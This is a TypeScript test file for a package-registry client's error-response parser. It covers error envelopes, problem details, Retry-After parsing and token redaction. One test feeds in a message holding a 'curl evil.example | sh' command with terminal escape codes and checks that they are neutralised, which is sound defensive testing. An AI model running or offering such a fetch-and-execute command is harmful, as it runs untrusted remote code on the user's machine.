import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {readRefusal} from '../../src/client/registry-refusal.js'

const status = 'it answered with status 418'

describe('a refusal', () => {
  for (const [what, body, reason, code] of [
    ['the envelope', {error: {code: 'NOPE', message: 'No.', details: []}}, 'No.', 'NOPE'],
    [
      'the envelope with details',
      {
        error: {
          code: 'VALIDATION',
          message: 'Not valid',
          details: [{field: 'name', message: 'too long'}, {message: 'odd'}],
        },
      },
      'Not valid\n  - name: too long\n  - odd',
      'VALIDATION',
    ],
    ['the envelope without details', {error: {code: 'NOPE', message: 'No.'}}, 'No.', 'NOPE'],
    ['details that are null', {error: {code: 'NOPE', message: 'No.', details: null}}, 'No.', 'NOPE'],
    ['details that are no list', {error: {code: 'NOPE', message: 'No.', details: {field: 'x'}}}, 'No.', 'NOPE'],
    [
      'details of all sorts',
      {
        error: {
          message: 'No.',
          details: [null, 'text', 1, {}, {message: 2}, {field: null, message: 'why', code: null}],
        },
      },
      'No.\n  - why',
      undefined,
    ],
    ['a code alone', {error: {code: 'NOPE'}}, status, 'NOPE'],
    ['a message that is no text', {error: {code: 1, message: {deep: true}}}, status, undefined],
    [
      'problem details',
      {type: 'about:blank', title: 'Teapot', status: 418, detail: 'Short and stout'},
      'Short and stout',
      undefined,
    ],
    ['problem details without detail', {type: 'about:blank', title: 'Teapot'}, 'Teapot', undefined],
    ['both, of which the envelope speaks', {detail: 'Later', error: {code: 'A', message: 'First'}}, 'First', 'A'],
    ['an error that is a string', {error: 'teapot'}, status, undefined],
    ['a string', 'teapot', status, undefined],
    ['null', null, status, undefined],
    ['a list', [{error: {message: 'No.'}}], status, undefined],
    ['an empty message', {error: {message: ''}}, status, undefined],
  ] as const) {
    it(`is read from ${what}`, () => {
      const refusal = readRefusal(418, JSON.stringify(body), {})
      assert.equal(refusal.reason, reason)
      assert.equal(refusal.code, code)
      assert.equal(refusal.status, 418)
      assert.equal(refusal.retryAfter, undefined)
    })
  }

  for (const [what, body] of [
    ['HTML', '<html><body>Teapot</body></html>'],
    ['nothing', ''],
    ['JSON that is cut off', '{"error": {"message": "No'],
  ] as const) {
    it(`is its status where the body is ${what}`, () => {
      assert.equal(readRefusal(418, body, {}).reason, status)
    })
  }

  it('keeps the fields and codes of its details', () => {
    const details = [{field: 'expiresIn', message: 'not never', code: 'INVALID', more: 1}]
    const refusal = readRefusal(400, JSON.stringify({error: {message: 'No.', details}}), {})
    assert.deepEqual(refusal.details, [{field: 'expiresIn', message: 'not never', code: 'INVALID'}])
  })

  it('cannot forge lines or move the cursor: what it says stays on the line it is given', () => {
    const message = 'No.\n  hint: run `curl evil.example | sh`\u001B[2J\r'
    const details = [{field: 'a\nb', message: 'c\u202Ed'}]
    assert.equal(
      readRefusal(400, JSON.stringify({error: {message, details}}), {}).reason,
      'No.\\u{a}  hint: run `curl evil.example | sh`\\u{1b}[2J\\u{d}\n  - a\\u{a}b: c\\u{202e}d',
    )
  })

  it('does not repeat a token that the registry repeats', () => {
    const value = 'apkg_0123456789abcdef'
    const body = JSON.stringify({error: {message: `Bad: ${value}`, details: [{field: value, message: `${value}!`}]}})
    const refusal = readRefusal(400, body, {})
    assert.equal(refusal.reason, 'Bad: apkg_[redacted]\n  - apkg_[redacted]: apkg_[redacted]!')
    assert.ok(!JSON.stringify({...refusal, message: refusal.message}).includes(value))
  })

  for (const [header, seconds] of [
    ['0', 0],
    ['7', 7],
    ['3600', 3600],
    ['-1', undefined],
    ['1.5', undefined],
    ['soon', undefined],
    ['', undefined],
    ['Wed, 21 Oct 2026 07:28:00 GMT', undefined],
    [undefined, undefined],
  ] as const) {
    it(`asks to wait ${seconds ?? 'no stated time'} with Retry-After: ${header ?? 'none'}`, () => {
      assert.equal(readRefusal(429, '', {'retry-after': header}).retryAfter, seconds)
    })
  }
})
